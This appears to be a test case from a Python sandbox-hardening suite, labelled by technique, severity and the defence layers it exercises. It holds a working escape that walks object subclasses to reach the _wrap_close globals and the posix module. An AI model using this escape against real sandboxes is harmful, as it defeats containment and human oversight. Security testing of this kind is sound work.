# technique: the base of a class by the table of bases
# family: A
# severity: H
# layers: policy, seccomp
def trick():
    for c in (1).__class__.__mro__[-1].__subclasses__():
        if c.__name__ == "_wrap_close":
            space = c.__init__.__globals__
            return space["sys"].modules["posix"]
    raise LookupError("no such class")

start_process(trick)
